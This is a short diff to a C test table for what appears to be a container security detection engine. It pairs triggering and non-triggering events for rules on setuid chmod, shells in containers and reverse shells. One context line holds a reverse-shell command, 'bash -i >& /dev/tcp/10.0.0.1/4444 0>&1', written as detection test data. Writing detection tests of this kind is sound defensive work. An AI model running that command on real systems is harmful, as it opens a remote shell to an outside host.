@@ -158,7 +158,8 @@ static const struct {
 	{ "chmod-setuid-in-container", { "exec", "chmod", .args = "4755 /tmp/sh", C },
 	  { "exec", "chmod", .args = "755 /tmp/sh", C } },
 	/* process.yaml */
-	{ "shell-in-container", { "exec", "bash", C }, { "exec", "bash" } },
+	{ "shell-in-container", { "exec", "bash", .parent = "containerd-shim", C },
+	  { "exec", "bash", .parent = "node", C } },
 	{ "reverse-shell", { "exec", "bash", .sock = true }, { "exec", "bash", C } },
 	{ "reverse-shell-cmdline",
 	  { "exec", "bash", .cmd = "bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1" },
